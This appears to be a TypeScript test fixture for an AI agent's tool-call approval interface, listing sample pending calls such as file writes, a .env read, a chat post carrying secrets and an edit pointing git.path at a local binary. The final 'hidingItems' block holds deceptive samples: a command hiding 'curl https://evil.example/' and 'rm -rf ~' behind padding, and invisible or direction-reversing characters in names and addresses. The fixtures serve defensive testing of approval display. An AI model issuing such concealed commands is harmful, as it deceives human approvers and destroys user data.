@@ -1,0 +1,212 @@
+/** Calls that wait for the user's word, one of each kind. */
+import type { CallView, Item } from '../../src/protocol/index.ts';
+
+function waiting(id: string, over: Partial<CallView>): Item {
+  const call: CallView = {
+    source: { kind: 'mcp', server: 'filesystem' },
+    toolName: 'write_file',
+    wireName: 'mcp__filesystem__write_file',
+    argsText: '{"path":"src/agent/turn.ts","content":"export const limit = 10;\\n"}',
+    status: 'pending',
+    approval: {
+      changed: false,
+      says: ['destructive'],
+      coverages: [{ covers: 'tool' }, { covers: 'source', tools: 12 }],
+    },
+    startedAt: Date.now(),
+    ...over,
+  };
+  return { kind: 'call', id, step: 1, call };
+}
+
+export const approvalItems: readonly Item[] = [
+  { kind: 'user', id: 'u1', text: 'Set the limit to 10 and tell me what else is in the folder.' },
+  waiting('p1', {}),
+  waiting('p2', {
+    toolName: 'list_directory',
+    wireName: 'mcp__filesystem__list_directory',
+    argsText: '{"path":"src/agent"}',
+    status: 'success',
+    durationMs: 8,
+    result: [],
+  }),
+  waiting('p3', {
+    toolName: 'fetch',
+    source: { kind: 'mcp', server: 'a-server-with-a-long-name' },
+    argsText: '{}',
+    approval: {
+      changed: true,
+      says: ['readOnly', 'openWorld'],
+      coverages: [{ covers: 'tool' }, { covers: 'readOnly', tools: 5 }, { covers: 'source', tools: 12 }],
+    },
+  }),
+];
+
+/** Calls that ask for more reasons than that their tool does. */
+export const approvalReasons: readonly Item[] = [
+  { kind: 'user', id: 'u1', text: 'Test it and tell the team.' },
+  waiting('r1', {
+    source: { kind: 'native' },
+    toolName: 'run_command',
+    title: 'Run command',
+    wireName: 'run_command',
+    argsText: '{"command":"npm test src/agent"}',
+    approval: {
+      changed: false,
+      says: ['destructive', 'openWorld'],
+      coverages: [
+        { covers: 'command', command: 'npm test src/agent', cwd: '/home/me/projects/patchbay' },
+        { covers: 'pattern', command: 'npm test', cwd: '/home/me/projects/patchbay' },
+      ],
+    },
+  }),
+  waiting('r2', {
+    source: { kind: 'native' },
+    toolName: 'read_file',
+    title: 'Read file',
+    wireName: 'read_file',
+    argsText: '{"path":".env"}',
+    approval: {
+      changed: false,
+      says: ['readOnly'],
+      reasons: [{ kind: 'sensitiveFile', path: '.env', why: 'environment' }],
+      coverages: [],
+    },
+  }),
+  waiting('r3', {
+    source: { kind: 'mcp', server: 'chat' },
+    toolName: 'post_message',
+    argsText: '{"channel":"team","text":"The tests pass."}',
+    approval: {
+      changed: false,
+      says: ['openWorld'],
+      reasons: [
+        {
+          kind: 'dataFlow',
+          marks: [{ kind: 'secret', source: '.env' }],
+          destination: 'chat (https://chat.example.com)',
+        },
+      ],
+      coverages: [],
+    },
+  }),
+  waiting('r4', {
+    source: { kind: 'native' },
+    toolName: 'read_mcp_resource',
+    title: 'Read resource',
+    argsText: '{"server":"docs","uri":"docs://search?q=how+to+deploy"}',
+    approval: {
+      changed: false,
+      isNew: true,
+      says: ['readOnly'],
+      reasons: [{ kind: 'unlistedResource', server: 'docs', uri: 'docs://search?q=how+to+deploy' }],
+      coverages: [{ covers: 'resources', server: 'docs' }],
+    },
+  }),
+];
+
+/** Changes of files that programs act on: shown as a diff, and asked about each time. */
+export const approvalProtected: readonly Item[] = [
+  { kind: 'user', id: 'u1', text: 'Set up the project.' },
+  waiting('p1', {
+    source: { kind: 'native' },
+    toolName: 'edit_file',
+    title: 'Edit file',
+    wireName: 'edit_file',
+    argsText: JSON.stringify({
+      path: '.vscode/settings.json',
+      oldText: '"editor.tabSize": 2',
+      newText: '"editor.tabSize": 2,\n  "git.path": "./tools/git"',
+    }),
+    approval: {
+      changed: false,
+      says: ['destructive'],
+      reasons: [
+        {
+          kind: 'protectedFile',
+          path: '.vscode/settings.json',
+          why: 'editor',
+          change:
+            '  {\n-   "editor.tabSize": 2\n+   "editor.tabSize": 2,\n+   "git.path": "./tools/git"\n  }',
+        },
+      ],
+      coverages: [],
+    },
+  }),
+  waiting('p2', {
+    source: { kind: 'native' },
+    toolName: 'write_file',
+    title: 'Write file',
+    wireName: 'write_file',
+    argsText: JSON.stringify({
+      path: 'data/report.json',
+      content: '{ "$schema": "https://schemas.example.com/report.json" }',
+    }),
+    approval: {
+      changed: false,
+      says: ['destructive'],
+      reasons: [
+        {
+          kind: 'remoteSchema',
+          path: 'data/report.json',
+          url: 'https://schemas.example.com/report.json',
+        },
+      ],
+      coverages: [],
+    },
+  }),
+];
+
+/** Calls that the model did not write as it should have, before and after they ran. */
+export const writtenOddly: readonly Item[] = [
+  { kind: 'user', id: 'u1', text: 'What does the readme say?' },
+  waiting('w1', {
+    toolName: 'read_file',
+    wireName: 'mcp__filesystem__read_file',
+    argsText: '{"path":"README.md"}',
+    notes: [
+      { kind: 'textCall' },
+      { kind: 'name', written: 'functions.read_file' },
+      { kind: 'arguments', form: 'text' },
+      { kind: 'arguments', form: 'trailingComma' },
+    ],
+    approval: { changed: false, says: ['readOnly'], reasons: [{ kind: 'textCall' }], coverages: [] },
+  }),
+  waiting('w2', {
+    toolName: 'read_file',
+    wireName: 'mcp__filesystem__read_file',
+    argsText: '{"path":"docs/endpoints.md"}',
+    notes: [
+      { kind: 'textCall' },
+      { kind: 'name', written: `files${'.read_file'.repeat(20)}\u202E` },
+      { kind: 'arguments', form: 'codeBlock' },
+    ],
+    status: 'success',
+    durationMs: 8,
+    result: [{ type: 'text', text: '# What endpoints do' }],
+  }),
+];
+
+const files = Array.from({ length: 60 }, (_, index) => `src/part${index}.ts`);
+const padded = `echo "All tests pass"${' '.repeat(500)}; curl -s https://evil.example/${'\n'.repeat(200)}rm -rf ~`;
+
+/** Calls that hide what they do: in their length, behind padding, in characters that nobody sees. */
+export const hidingItems: readonly Item[] = [
+  { kind: 'user', id: 'u1', text: 'Run the tests.' },
+  waiting('h1', {
+    source: { kind: 'native' },
+    toolName: 'run_command',
+    wireName: 'run_command',
+    argsText: JSON.stringify({ command: padded, cwd: 'src' }),
+    approval: { changed: false, says: [], coverages: [] },
+  }),
+  waiting('h2', { argsText: JSON.stringify({ path: 'src/index\u{200B}.ts', files }) }),
+  waiting('h3', {
+    toolName: 'post',
+    title: 'post\u{2060}',
+    argsText: JSON.stringify({
+      to: 'team@exam\u{E0070}\u{E006C}\u{E0065}\u{E0061}\u{E0073}\u{E0065}ple.com',
+      text: 'ok\u{202E}fdp.exe\u{3164}',
+    }),
+  }),
+];
